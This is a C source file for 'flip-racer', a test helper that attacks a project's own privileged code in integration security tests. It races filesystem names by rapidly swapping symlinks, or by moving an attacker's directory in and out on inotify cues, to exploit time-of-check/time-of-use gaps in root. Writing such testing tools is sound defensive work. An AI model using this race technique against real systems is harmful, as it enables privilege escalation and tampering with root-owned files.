/*
 * flip-racer - an attacker of t/integration/security-*.t: run as an
 * unprivileged user, it changes a name in a directory it may write,
 * hoping that root looks at the name in one state and uses it in the
 * other.  Bounded in time and in flips.
 *
 *   flip-racer [-t SECONDS] [-n FLIPS] -l DIR NAME TARGET1 TARGET2
 *   flip-racer [-t SECONDS] [-n FLIPS] [-w WATCH [-d US]] [-h US] -m DIR NAME ASIDE
 *
 * -l: DIR/NAME is, as fast as can be, in turn a symlink to TARGET1 and
 * one to TARGET2 (each swap atomic: a rename over it; a relative TARGET
 * is relative to DIR).
 * -m: DIR/ASIDE (a directory of the attacker's, say) is moved to
 * DIR/NAME, held there -h microseconds, and moved back: NAME is in turn
 * missing and there.  Without -w, again and again; with -w, once each
 * time WATCH (a file or directory the attacker may read) is opened
 * (inotify), -d microseconds after it: aimed at the moment root, having
 * seen NAME missing, goes on to use it.
 * Prints "ready" once flipping or watching, "flips=N" at the end (also
 * on SIGTERM); DIR/ASIDE is put back where it was.
 */
#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static long long now_us(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/* Busy: a sleep would give the CPU away for much longer. */
static void spin_us(long us)
{
	long long end = now_us() + us;

	while (us > 0 && now_us() < end && !stop)
		;
}

static int usage(void)
{
	fprintf(stderr, "usage: flip-racer [-t SECONDS] [-n FLIPS] -l DIR NAME TARGET1 TARGET2\n"
			"       flip-racer [-t SECONDS] [-n FLIPS] [-w WATCH [-d US]] [-h US] -m DIR NAME ASIDE\n");
	return 2;
}

/* Wait (up to the end) until WATCH is opened; true if it was. */
static bool opened(int fd, long long end)
{
	while (!stop && now_us() < end) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));

		if (poll(&p, 1, 100) <= 0)
			continue;
		ssize_t len = read(fd, buf, sizeof(buf));
		for (char *q = buf; len > 0 && q < buf + len;) {
			const struct inotify_event *ev = (const struct inotify_event *)q;

			if (ev->len == 0 && (ev->mask & IN_OPEN))
				return true;   /* WATCH itself, not an entry of it */
			q += sizeof(*ev) + ev->len;
		}
	}
	return false;
}

int main(int argc, char **argv)
{
	char mode = 0;
	const char *watch = NULL;
	long secs = 30, max = 100000000, flips = 0, hold_us = 0, delay_us = 0;
	int opt, ifd = -1;

	while ((opt = getopt(argc, argv, "lmt:n:h:w:d:")) != -1) {
		switch (opt) {
		case 'l': mode = 'l'; break;
		case 'm': mode = 'm'; break;
		case 't': secs = atol(optarg); break;
		case 'n': max = atol(optarg); break;
		case 'h': hold_us = atol(optarg); break;
		case 'w': watch = optarg; break;
		case 'd': delay_us = atol(optarg); break;
		default: return usage();
		}
	}
	if (!mode || argc - optind != (mode == 'l' ? 4 : 3) || (watch && mode != 'm'))
		return usage();
	if (watch && ((ifd = inotify_init1(IN_CLOEXEC)) < 0 ||
		      inotify_add_watch(ifd, watch, IN_OPEN) < 0)) {
		perror("flip-racer: inotify");
		return 1;
	}
	/* Names relative to DIR: each flip costs the same however deep DIR
	 * lies. */
	if (chdir(argv[optind]) < 0) {
		perror("flip-racer: chdir");
		return 1;
	}
	const char *name = argv[optind + 1];
	char tmp[64];

	snprintf(tmp, sizeof(tmp), ".flip-%ld", (long)getpid());
	signal(SIGTERM, on_term);
	printf("ready\n");
	fflush(stdout);
	long long end = now_us() + secs * 1000000LL;
	for (long round = 0; !stop && flips < max; round++) {
		if ((round & 255) == 0 && now_us() >= end)
			break;
		if (mode == 'l') {
			const char *target = argv[optind + 2 + (flips & 1)];

			unlink(tmp);
			if (symlink(target, tmp) == 0 && rename(tmp, name) == 0)
				flips++;
			else
				usleep(1000);
			continue;
		}
		const char *aside = argv[optind + 2];

		if (watch) {
			if (!opened(ifd, end))
				break;
			spin_us(delay_us);
		}
		if (rename(aside, name) < 0) {
			/* NAME is someone else's now (root made it): wait. */
			if (!watch)
				usleep(1000);
			continue;
		}
		spin_us(hold_us);
		flips++;
		while (rename(name, aside) < 0 && errno == EINTR)
			;
	}
	unlink(tmp);
	printf("flips=%ld\n", flips);
	return 0;
}
